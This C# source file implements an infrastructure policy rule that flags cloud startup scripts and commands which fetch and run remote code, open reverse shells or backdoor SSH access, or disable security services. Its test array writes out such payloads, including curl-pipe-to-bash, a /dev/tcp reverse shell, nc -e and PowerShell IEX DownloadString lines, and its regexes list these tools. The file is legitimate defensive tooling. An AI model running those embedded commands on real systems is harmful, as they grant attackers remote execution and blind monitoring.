using System.Buffers;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Infra.Policy.Model;
using Infra.Policy.Rules.Checks;

namespace Infra.Policy.Rules.Own.Code;

/// <summary>
/// Scripts and commands that run downloaded code, open remote access or disable a protection, in any argument, also as Base64.
/// A compressed script can't be checked, so it is a finding.
/// </summary>
internal static partial class ScriptText
{
    private const int Shortest = 12;

    // gzip, as Base64 writes its first bytes.
    private const string Packed = "H4sI";

    // One of these is in whatever the patterns below match; most texts have none.
    private static readonly SearchValues<string> Marks = SearchValues.Create(
        [
            "curl", "wget", "fetch", "iwr", "irm", "Invoke-", "base64", "Download", "/dev/tcp", "/dev/udp", "nc ", "ncat", "netcat", "socat", "mkfifo", "authorized_keys", "NOPASSWD", "chpasswd", "ssh_pwauth",
            "PermitRootLogin", "PasswordAuthentication", "net user", "net localgroup", "chmod", "setenforce", "iptables", "ufw", "auditctl", "MpPreference", "advfirewall", "systemctl", "service ",
        ],
        StringComparison.OrdinalIgnoreCase);

    /// <summary>Arguments that the rule must find.</summary>
    public static (string Type, string Argument, JsonNode Value)[] Wrong { get; } =
    [
        ("aws_instance", "user_data", "#!/bin/sh\ncurl -fsSL https://x.lynx.example/i | sudo -E bash -"), ("aws_launch_template", "user_data", Convert.ToBase64String("#!/bin/sh\nwget -qO- https://x/i | sh\n"u8)),
        ("google_compute_instance", "metadata_startup_script", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"), ("aws_codebuild_project", "buildspec", "commands:\n - bash <(curl -s https://x/i)"),
        ("azurerm_container_group", "commands", new JsonArray("sh", "-c", "nc 10.0.0.9 443 -e sh")), ("aws_ssm_document", "content", """{"runCommand":["echo aWQ= | base64 -d | sh"]}"""),
        ("azurerm_windows_virtual_machine", "custom_data", "IEX (New-Object Net.WebClient).DownloadString('https://x/i.ps1')"), ("aws_instance", "user_data", "#cloud-config\nssh_pwauth: true\n"),
        ("aws_instance", "user_data", "echo 'ssh-ed25519 A' >> /root/.ssh/authorized_keys"), ("aws_instance", "user_data", "systemctl disable --now auditd"), ("aws_instance", "user_data_base64", $"{Packed}AAAAAAAAA"),
    ];

    /// <summary>The fault of an argument with a name; null for none.</summary>
    public static Verdict? Judge(string name, PolicyValue value, PolicyEstate estate)
    {
        if (!value.Resource.IsManaged || Text(value) is not { Length: >= Shortest } text || Prose().IsMatch(name)) return null;
        if (text.StartsWith(Packed, StringComparison.Ordinal) && Scripts().IsMatch(name)) return new("packed, so it can't be reviewed");
        var script = text.Contains(' ', StringComparison.Ordinal) ? text : Scripts().IsMatch(name) ? Decoded(text) : "";
        if (!script.AsSpan().ContainsAny(Marks)) return null;
        return Fetches().Match(script) is { Success: true } fetched ? new($"\"{Line(fetched)}\" in its text: it runs downloaded code")
            : Opens().Match(script) is { Success: true } opened ? new($"\"{Line(opened)}\" in its text: it opens remote access")
            : Disarms().Match(script) is { Success: true } disarmed ? new($"\"{Line(disarmed)}\" in its text: it disables a protection") : null;
    }

    // A command may be a list of its words.
    private static string? Text(PolicyValue value) => value.Json switch
    {
        JsonValue text => text.ToString(),
        JsonArray { Count: > 1 } words when words.All(word => word is JsonValue) => string.Join(' ', words.Select(word => word!.ToString())),
        _ => null,
    };

    // What follows may be a secret.
    private static string Line(Match match) => match.Value.Split('\n')[0].Trim();

    private static string Decoded(string text)
    {
        var bytes = new byte[text.Length];
        return Convert.TryFromBase64String(text, bytes, out var count) ? Encoding.UTF8.GetString(bytes, 0, count) : "";
    }

    [GeneratedRegex("user_data|custom_data|script|^on_(start|create)$|^content$|^data$|command|^boot|^init")]
    private static partial Regex Scripts();

    [GeneratedRegex("^(description|comment|notes?|documentation|display_name|title|tags(_all)?|labels|annotations|help|policy|pattern|filter|expression|query|message|subject)$")]
    private static partial Regex Prose();

    // A download or a decoded text that goes straight into an interpreter.
    [GeneratedRegex(
        @"(?i)\b(curl|wget|fetch|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|base64\s+(-d|-D|--decode))\b[^\n;]{0,300}?\|\s*(sudo\s+(-\w+\s+)*)?(\w+=\S+\s+)*(/\w+)*/?(ba|z|k|da|a)?(sh|python[\d.]*|perl|ruby|node|php|iex|Invoke-Expression)\b|\b((ba|z|k|da)?sh|eval|source|python[\d.]*|\.)\s+(-c\s+)?[""']?(<\(|\$\(|`)\s*(curl|wget)\b|\b(iex|Invoke-Expression)\b[^\n]{0,120}\b(DownloadString|DownloadFile|iwr|irm|Invoke-WebRequest)\b|\b(curl|wget)\b[^\n|;]{0,200}\s(-k|--insecure|--no-check-certificate)\s")]
    private static partial Regex Fetches();

    [GeneratedRegex(
        @"(?i)/dev/(tcp|udp)/|\b(nc|ncat|netcat)\b[^\n]{0,120}\s(-e|-c|--exec)\s|\bsocat\b[^\n]{0,120}\bexec\b|\bmkfifo\b[^\n]{0,120}\bnc\b|authorized_keys|\bNOPASSWD\b|\bchpasswd\b|ssh_pwauth:\s*(true|yes|1)|PermitRootLogin\s+yes|PasswordAuthentication\s+yes|\bnet\s+(user|localgroup)\s[^\n]{0,80}/add|\bchmod\s+[ugo]*\+?s?4[0-7]{3}\s")]
    private static partial Regex Opens();

    [GeneratedRegex(
        @"(?i)\bsetenforce\s+0|\biptables\s+(-F|--flush)|\bufw\s+disable|\bauditctl\s+-e\s*0|Set-MpPreference\s+-Disable|netsh\s+advfirewall\s+set\s+\w+\s+state\s+off|\b(systemctl|service)\s+(stop|disable|mask)\s+(--now\s+)?[\w.-]*(ssm-agent|auditd|falco|osquery|guardduty|cloudwatch|firewalld|ufw|azuremonitor|mdatp|falcon|google-cloud-ops|fluent|rsyslog)")]
    private static partial Regex Disarms();
}
